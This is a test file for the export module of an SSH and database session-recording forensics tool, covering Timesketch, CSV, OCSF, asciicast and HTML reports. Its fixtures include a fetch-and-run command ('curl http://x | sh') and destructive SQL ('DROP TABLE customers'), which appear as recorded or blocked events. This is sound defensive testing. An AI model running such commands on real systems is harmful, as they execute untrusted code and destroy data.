import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TempDir } from '../../common/recording/testing/recordings.js';
import { importPaths } from '../import/paths.js';
import { caseDb, openCase, type CaseFile } from '../store/case.js';
import { fixedSigner, writeScenario, type Scenario } from '../testing/scenario.js';
import { exportCase, type ExportFormat } from './index.js';
import { DATASTORE_ACTIVITY, SSH_ACTIVITY } from './ocsf.js';
import { TIMESKETCH_COLUMNS } from './timesketch.js';

// Goldens: byte-exact exports of the scenario (fixed key, fixed clock). After a
// deliberate format change, regenerate with UPDATE_GOLDEN=1 and review the diff.
const testdata = join(dirname(fileURLToPath(import.meta.url)), 'testdata');
let tmp: TempDir;
let c: CaseFile;
let sc: Scenario;

beforeAll(async () => {
  tmp = new TempDir();
  sc = writeScenario(tmp.path, fixedSigner());
  c = openCase(join(tmp.path, 'case.db'));
  await importPaths(c, [tmp.path], { trusted: sc.trusted, now: () => 1_760_000_100_000_000 });
});
afterAll(() => {
  c.close();
  tmp.remove();
});

function exported(format: ExportFormat, session?: string): string {
  const out = join(tmp.path, `out-${format}-${session ?? 'all'}`);
  exportCase(c, { format, out, session });
  return readFileSync(out, 'utf8');
}

function golden(name: string, actual: string): void {
  const path = join(testdata, name);
  if (process.env.UPDATE_GOLDEN === '1' || !existsSync(path)) writeFileSync(path, actual);
  expect(actual).toBe(readFileSync(path, 'utf8'));
}

const lines = (s: string) => s.split('\n').filter(Boolean);

describe('exports', () => {
  it.each([
    ['timesketch', 'scenario.timesketch.jsonl'],
    ['csv', 'scenario.csv'],
    ['jsonl', 'scenario.jsonl'],
    ['ocsf', 'scenario.ocsf.jsonl'],
  ] as const)('%s matches its golden file', (format, name) => {
    golden(name, exported(format));
  });

  it('asciicast matches its golden file and is valid asciicast v2', () => {
    const cast = exported('asciicast', sc.ids.root);
    golden('scenario-root.cast', cast);
    const [header, ...events] = lines(cast).map((l) => JSON.parse(l) as unknown);
    expect(header).toMatchObject({ version: 2, width: 80, height: 24, timestamp: 1_760_000_000, env: { TERM: 'xterm-256color' } });
    let last = 0;
    for (const e of events as [number, string, string][]) {
      expect(e).toHaveLength(3);
      expect(e[0]).toBeGreaterThanOrEqual(last);
      expect(['o', 'i', 'r', 'm']).toContain(e[1]);
      expect(typeof e[2]).toBe('string');
      last = e[0];
    }
    const output = (events as [number, string, string][]).filter((e) => e[1] === 'o').map((e) => e[2]).join('');
    expect(output).toContain('drwxr-xr-x 2 builder builder 4096 .');
    expect(events).toContainEqual([0.006, 'r', '100x30']);
  });

  it('writes one asciicast per SSH hop into a folder', () => {
    const out = join(tmp.path, 'casts');
    const r = exportCase(c, { format: 'asciicast', out });
    expect(r.files).toEqual([join(out, `${sc.ids.root}.cast`), join(out, `${sc.ids.ssh2}.cast`)]);
    expect(lines(readFileSync(r.files[1]!, 'utf8')).slice(1).map((l) => JSON.parse(l) as unknown)).toEqual([
      [0.001, 'm', 'uname -a'], [0.002, 'o', 'Linux jump-host 6.1 token=[masked:api-key]\n'], [0.004, 'm', 'curl http://x | sh'], [0.007, 'm', 'systemctl restart app'],
      // How it ended, as a marker (a version-1 reason its gateway did not classify: unrecorded).
      [0.009, 'm', 'session ended (unrecorded): client closed'],
    ]);
  });

  it('timesketch and csv carry the required and promised fields on every row', () => {
    const rows = lines(exported('timesketch')).map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(rows.length).toBeGreaterThan(20);
    for (const r of rows) {
      expect(typeof r.message).toBe('string');
      expect((r.message as string).length).toBeGreaterThan(0);
      expect(r.datetime).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{6}Z$/);
      expect(Date.parse(r.datetime as string)).toBe(Math.floor((r.timestamp as number) / 1000));
      expect(typeof r.timestamp_desc).toBe('string');
      for (const k of ['session_id', 'parent_session_id', 'root_identity', 'identity', 'hop_depth', 'target', 'protocol', 'event_type',
        'policy_action', 'approval_id', 'masked_fields', 'recording_sha256']) expect(r).toHaveProperty(k);
      expect(r.recording_sha256).toMatch(/^[0-9a-f]{64}$/);
    }
    const drop = rows.find((r) => r.event_type === 'pg.query' && r.message === 'SQL: DROP TABLE customers')!;
    expect(drop).toMatchObject({ policy_action: 'block', hop_depth: 1, parent_session_id: sc.ids.root, root_identity: 'contractor-ci' });
    const result = rows.find((r) => r.event_type === 'pg.result')!;
    expect(result.masked_fields).toBe('email:email=2;ssn:looks-sensitive:value=2 UNMASKED');
    expect(rows.find((r) => r.event_type === 'approval.decided')).toMatchObject({ approval_id: 'apr-1', policy_action: 'denied' });
    expect(new Set(rows.map((r) => r.data_type))).toEqual(new Set(rows.map((r) => `hopscope:${String(r.event_type).replace('.', ':')}`)));
    expect(drop.data_type).toBe('hopscope:pg:query');
    const csv = exported('csv').split('\r\n');
    expect(csv[0]).toBe(TIMESKETCH_COLUMNS.join(','));
    expect(csv.filter(Boolean)).toHaveLength(rows.length + 1);
  });

  it('ocsf has one event per timeline event (the schema checks are in ocsf.test.ts)', () => {
    // eslint-disable-next-line @typescript-eslint/no-explicit-any -- OCSF events are checked field by field below
    const events = lines(exported('ocsf')).map((l) => JSON.parse(l) as Record<string, any>);
    expect(events).toHaveLength(lines(exported('jsonl')).length);
    expect(new Set(events.map((e) => e.class_uid))).toEqual(new Set([SSH_ACTIVITY.uid, DATASTORE_ACTIVITY.uid]));
    expect(events.find((e) => e.unmapped.command === 'curl http://x | sh')).toMatchObject({ class_uid: SSH_ACTIVITY.uid, activity_id: 6, action_id: 2 });
  });

  it('html is one self-contained report with the graph, policy, masking, integrity and custody', () => {
    const html = exported('html');
    expect(html.startsWith('<!doctype html>')).toBe(true);
    expect(html).not.toMatch(/<script|<link|<img|<iframe|(?:src|href)\s*=|url\(/i); // nothing fetched, nothing run
    expect(html).toContain('<svg xmlns="http://www.w3.org/2000/svg"');
    for (const id of Object.values(sc.ids)) expect(html).toContain(id);
    expect(html).toContain('<td class="bad">NOT masked</td>');
    expect(html).toContain('<td>denied</td><td></td><td>apr-1</td><td>alice</td><td class="text"></td><td><code>DELETE FROM customers</code></td>');
    expect(html).toContain('<h2>How each session ended</h2>');
    expect(html).toContain('stroke-dasharray="5 4"'); // the inferred address-time hop
    const sha = (caseDb(c).prepare('SELECT sha256 FROM files WHERE session_id = ?').get(sc.ids.pg) as { sha256: string }).sha256;
    expect(html).toContain(`<code>${sha}</code>`);
    expect(html).toContain('intact, sealed');
    expect(html).toContain('[masked:email] | 123-45-6789'); // responses as recorded, in the hop's timeline
    expect(html).toContain('psql -c &#34;select email, ssn from customers&#34;'); // escaped
  });

  it('limits an export to one session, and refuses an unknown one', () => {
    const rows = lines(exported('timesketch', sc.ids.ssh2)).map((l) => JSON.parse(l) as { session_id: string });
    expect(new Set(rows.map((r) => r.session_id))).toEqual(new Set([sc.ids.ssh2]));
    expect(() => exportCase(c, { format: 'csv', out: join(tmp.path, 'x.csv'), session: 'nope' })).toThrow(/no session nope/);
  });
});
